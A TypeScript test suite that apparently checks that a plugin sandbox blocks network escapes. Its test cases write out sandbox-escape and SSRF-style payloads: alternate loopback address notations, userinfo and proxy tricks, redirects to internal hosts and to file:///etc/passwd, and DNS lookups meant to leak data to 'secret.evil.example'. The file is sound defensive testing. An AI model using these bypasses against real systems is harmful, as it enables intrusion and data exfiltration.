import { match, ok, strictEqual } from "node:assert/strict";
import {
  attackTest,
  type Attempt,
  attempt,
  refused,
  Target,
} from "./_attack.ts";

/** Ways to a server that was not granted; `HOST` and `PORT` stand for it. */
const REACHES: readonly (readonly [name: string, code: string])[] = [
  ["fetches from another host", `return await fetch("http://HOST/")`],
  [
    "opens a connection",
    `return await Deno.connect({ hostname: "127.0.0.1", port: PORT })`,
  ],
  [
    "opens a TLS connection",
    `return await Deno.connectTls({ hostname: "127.0.0.1", port: PORT })`,
  ],
  [
    "opens a connection of Node",
    `const { connect } = await import("node:net");
    return await new Promise((resolve, reject) =>
      connect(PORT, "127.0.0.1", resolve).on("error", reject))`,
  ],
  [
    "sends a request of Node",
    `const { get } = await import("node:http");
    return await new Promise((resolve, reject) =>
      get("http://HOST/", resolve).on("error", reject))`,
  ],
  [
    "speaks HTTP/2 of Node",
    `const { connect } = await import("node:http2");
    return await new Promise((resolve, reject) =>
      connect("http://HOST/", resolve).on("error", reject))`,
  ],
  [
    "opens a WebSocket",
    `return await new Promise((resolve, reject) => {
      const socket = new WebSocket("ws://HOST/");
      socket.onopen = resolve;
      socket.onerror = reject;
    })`,
  ],
  [
    "goes through a proxy",
    `const client = Deno.createHttpClient({ proxy: { url: "http://HOST" } });
    return await fetch("http://granted.example/", { client })`,
  ],
  [
    "writes its address as a number",
    `return await fetch("http://2130706433:PORT/")`,
  ],
  [
    "writes its address in octal",
    `return await fetch("http://0177.0.0.1:PORT/")`,
  ],
  ["writes its address short", `return await fetch("http://127.1:PORT/")`],
  [
    "writes its address as IPv6",
    `return await fetch("http://[::ffff:127.0.0.1]:PORT/")`,
  ],
  ["writes its name", `return await fetch("http://localhost:PORT/")`],
  ["ends its name with a dot", `return await fetch("http://localhost.:PORT/")`],
  ["writes any address", `return await fetch("http://0.0.0.0:PORT/")`],
  [
    "hides it behind a user's name",
    `return await fetch("http://granted.example:80@HOST/")`,
  ],
];

function isRefused({ got, error, message, accesses }: Attempt): boolean {
  return got === undefined && /NotCapable|ErrorEvent|Error|\?/.test(error) &&
    !/ECONNREFUSED|ENOTFOUND|dns/i.test(message) &&
    accesses.some((each) => each.permission === "net" && !each.allowed);
}

for (const [name, code] of REACHES) {
  attackTest(name, async () => {
    await using target = new Target(() => new Response("reached"));
    const aftermath = await attempt(
      code.replaceAll("HOST", target.host)
        .replaceAll("PORT", String(target.port)),
      { approved: { net: ["granted.example"] } },
    );
    ok(isRefused(aftermath), JSON.stringify(aftermath));
    strictEqual(target.requests.length, 0);
    ok(!aftermath.accesses.some(({ allowed }) => allowed));
  });
}

/** Notations of a host that was granted by its address alone. */
const NOTATIONS: readonly string[] = [
  "localhost",
  "localhost.",
  "[::1]",
  "[::ffff:127.0.0.2]",
  "0.0.0.0",
  "127.0.0.2",
];

for (const host of NOTATIONS) {
  attackTest(`is granted 127.0.0.1 and takes ${host}`, async () => {
    await using target = new Target(() => new Response("reached"));
    const { port } = target;
    const options = { approved: { net: [target.host] } };
    const granted = await attempt(
      `return (await fetch("http://${target.host}/")).status`,
      options,
    );
    strictEqual(granted.got, "200");
    const other = await attempt(
      `return (await fetch("http://${host}:${port}/")).status`,
      options,
    );
    strictEqual(other.error, "NotCapable", JSON.stringify(other));
    refused(other, "net");
    strictEqual(target.requests.length, 1);
  });
}

attackTest("is granted a host and takes another port of it", async () => {
  await using own = new Target(() => new Response("own"));
  await using other = new Target(() => new Response("other"));
  const aftermath = await attempt(
    `return await fetch("http://${other.host}/")`,
    {
      approved: { net: [own.host] },
    },
  );
  strictEqual(aftermath.error, "NotCapable");
  refused(aftermath, "net", other.host);
  strictEqual(other.requests.length, 0);
});

attackTest("is led from a granted host to another one", async () => {
  await using inner = new Target(() => new Response("secret"));
  await using outer = new Target(({ url }) =>
    Response.redirect(
      new URL(url).pathname === "/name"
        ? `http://localhost:${inner.port}/`
        : `http://${inner.host}/`,
      307,
    )
  );
  for (const path of ["/address", "/name"]) {
    const aftermath = await attempt(
      `return await (await fetch("http://${outer.host}${path}")).text()`,
      { approved: { net: [outer.host] } },
    );
    strictEqual(aftermath.error, "NotCapable", JSON.stringify(aftermath));
    ok(
      aftermath.accesses.some(({ value, allowed }) =>
        value.endsWith(`:${inner.port}`) && !allowed
      ),
    );
  }
  strictEqual(outer.requests.length, 2);
  strictEqual(inner.requests.length, 0);
});

attackTest("is led from a granted host to a file", async () => {
  await using outer = new Target(() =>
    new Response(null, {
      status: 302,
      headers: { location: "file:///etc/passwd" },
    })
  );
  const aftermath = await attempt(
    `return await (await fetch("http://${outer.host}/")).text()`,
    { approved: { net: [outer.host] } },
  );
  strictEqual(aftermath.got, undefined, aftermath.got);
});

attackTest("listens for whoever comes", async () => {
  for (
    const code of [
      `return Deno.listen({ hostname: "127.0.0.1", port: 0 })`,
      `return Deno.serve({ port: 0, onListen() {} }, () => new Response())`,
      `const { createServer } = await import("node:net");
      return await new Promise((resolve, reject) =>
        createServer().on("error", reject).listen(0, "127.0.0.1", resolve))`,
    ]
  ) {
    const aftermath = await attempt(code, {
      approved: { net: ["granted.example"] },
    });
    strictEqual(aftermath.got, undefined, code);
    match(
      `${aftermath.error} ${aftermath.failure?.message}`,
      /NotCapable/,
      JSON.stringify(aftermath),
    );
    refused(aftermath, "net");
  }
});

attackTest("asks names of a server, to tell it what it knows", async () => {
  for (
    const code of [
      `return await Deno.resolveDns("secret.evil.example", "A")`,
      `const { resolve4 } = await import("node:dns/promises");
      return await resolve4("secret.evil.example")`,
      `const { lookup } = await import("node:dns/promises");
      return await lookup("secret.evil.example")`,
    ]
  ) {
    const aftermath = await attempt(code);
    strictEqual(aftermath.got, undefined, code);
    refused(aftermath, "net");
  }
});

attackTest("opens a socket of another program on this machine", async () => {
  const folder = await Deno.makeTempDir({ prefix: "skymap-attack-" });
  const path = `${folder}/socket`;
  const listener = Deno.listen({ transport: "unix", path });
  try {
    for (
      const code of [
        `return await Deno.connect({ transport: "unix", path: config.path })`,
        `const { connect } = await import("node:net");
        return await new Promise((resolve, reject) =>
          connect(config.path, resolve).on("error", reject))`,
      ]
    ) {
      const aftermath = await attempt(code, { config: { path } });
      strictEqual(aftermath.error, "NotCapable", code);
      refused(aftermath, "read", path);
    }
  } finally {
    listener.close();
    await Deno.remove(folder, { recursive: true });
  }
});

attackTest("listens to events of another host", async () => {
  await using target = new Target(() =>
    new Response("data: x\\n\\n", {
      headers: { "content-type": "text/event-stream" },
    })
  );
  const aftermath = await attempt(
    `return await new Promise((resolve, reject) => {
      const source = new EventSource("http://${target.host}/");
      source.onmessage = () => resolve("heard");
      source.onerror = () => reject(new Error("not heard"));
    })`,
  );
  strictEqual(aftermath.error, "Error");
  strictEqual(target.requests.length, 0);
});

attackTest("sends datagrams", async () => {
  const { failure, accesses } = await attempt(
    `const { createSocket } = await import("node:dgram");
    const socket = createSocket("udp4");
    return await new Promise((resolve, reject) =>
      socket.send("x", 9_999, "127.0.0.1", (error) => error ? reject(error) : resolve("sent")))`,
  );
  ok(accesses.some((each) => each.permission === "net" && !each.allowed));
  strictEqual(failure?.code, "plugin_crashed");
});

/** A name of this machine that is not `localhost`, if it has one. */
const ownName = (await Deno.readTextFile("/etc/hosts").catch(() => ""))
  .split("\n").filter((line) => line.startsWith("127."))
  .flatMap((line) => line.split(/\s+/).slice(1))
  .find((name) => /^[a-z][a-z0-9.-]*$/.test(name) && !/localhost/.test(name));

if (ownName !== undefined) {
  attackTest("is granted a name that then leads inside", async () => {
    await using target = new Target(() => new Response("reached"));
    await using outside = new Target(() =>
      Response.redirect(`http://${ownName}:${target.port}/`)
    );
    const name = `${ownName}:${target.port}`;
    const direct = await attempt(
      `return await fetch("http://${name}/").catch(({ cause }) => { throw cause; })`,
      { approved: { net: [name] } },
    );
    strictEqual(direct.got, undefined);
    match(`${direct.error}: ${direct.message}`, /NotCapable|net access/);
    // Nor over a server that was granted, in whatever way that is written.
    const led = await attempt(`return await fetch("http://${outside.host}/")`, {
      approved: { net: [outside.host] },
    });
    strictEqual(led.error, "NotCapable");
    refused(led, "net", name);
    strictEqual(target.requests.length, 0);
  });
}
